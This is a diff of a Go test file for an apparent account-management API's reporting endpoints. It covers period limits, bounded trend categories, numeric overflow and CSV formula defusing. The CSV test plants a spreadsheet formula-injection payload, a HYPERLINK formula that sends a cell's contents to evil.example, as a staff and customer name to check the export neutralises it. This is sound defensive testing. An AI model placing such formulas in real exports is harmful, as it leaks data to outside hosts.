@@ -9,14 +9,14 @@ import (
 
 	"github.com/google/uuid"
 
-	"kam/db/store"
+	"kam"
 )
 
 // SPEC §7: a report period covers at most ten years; longer is 422
 // period_too_long on every report, not a trend of every month since 1900.
 func TestReportPeriodTooLong(t *testing.T) {
 	staff := staffByRole(t)
-	gm := staff[store.RoleGeneralManager]
+	gm := staff[kam.RoleGeneralManager]
 	acct := newAccount(t, "")
 	for _, path := range []string{"/v1/reports/overview", "/v1/reports/churn", "/v1/reports/staff", "/v1/reports/customers/" + acct} {
 		must(t, call(t, "GET", path+"?from=2015-01-01&to=2024-12-31", gm.Token, nil), 200)
@@ -28,7 +28,7 @@ func TestReportPeriodTooLong(t *testing.T) {
 // The monthly trend is bounded in categories: the top N by revenue, then one
 // "other" row that sums the rest and says how many it holds.
 func TestReportTrendCategoriesBounded(t *testing.T) {
-	am := newStaff(t, store.RoleAccountManager)
+	am := newStaff(t, kam.RoleAccountManager)
 	acct := newAccount(t, am.ID)
 	for i := 1; i <= 25; i++ {
 		must(t, call(t, "POST", "/v1/customers/"+acct+"/sales", am.Token, map[string]any{"product": "p", "product_category": fmt.Sprintf("cat-%02d", i),
@@ -69,8 +69,8 @@ func TestReportTrendCategoriesBounded(t *testing.T) {
 // "numeric field overflow": sums are never cast to a narrower numeric.
 func TestReportSumsOfMaximumSales(t *testing.T) {
 	staff := staffByRole(t)
-	fin := staff[store.RoleFinance]
-	am := newStaff(t, store.RoleAccountManager)
+	fin := staff[kam.RoleFinance]
+	am := newStaff(t, kam.RoleAccountManager)
 	acct := newAccount(t, am.ID)
 	const max, twice = "9999999999999999.99", "19999999999999999.98"
 	ctx := context.Background()
@@ -120,9 +120,9 @@ func TestReportSumsOfMaximumSales(t *testing.T) {
 // stays a number.
 func TestReportCSVDefusesFormulas(t *testing.T) {
 	staff := staffByRole(t)
-	ka, fin := staff[store.RoleKAManager], staff[store.RoleFinance]
+	ka, fin := staff[kam.RoleKAManager], staff[kam.RoleFinance]
 	const hyperlink = `=HYPERLINK("http://evil.example/?x="&A1,"click")`
-	sm := must(t, call(t, "POST", "/v1/staff", adminToken, map[string]any{"name": hyperlink, "role": store.RoleAccountManager}), 201)
+	sm := must(t, call(t, "POST", "/v1/staff", adminToken, map[string]any{"name": hyperlink, "role": kam.RoleAccountManager}), 201)
 	evil := member{ID: sm.str("id"), Token: must(t, call(t, "POST", "/v1/staff/"+sm.str("id")+"/tokens", adminToken, nil), 201).str("token")}
 	acct := must(t, call(t, "POST", "/v1/customers", ka.Token, map[string]any{"code": "CSV-" + uuid.NewString()[:8], "name": hyperlink,
 		"tier": "A", "account_manager_id": evil.ID}), 201).str("id")
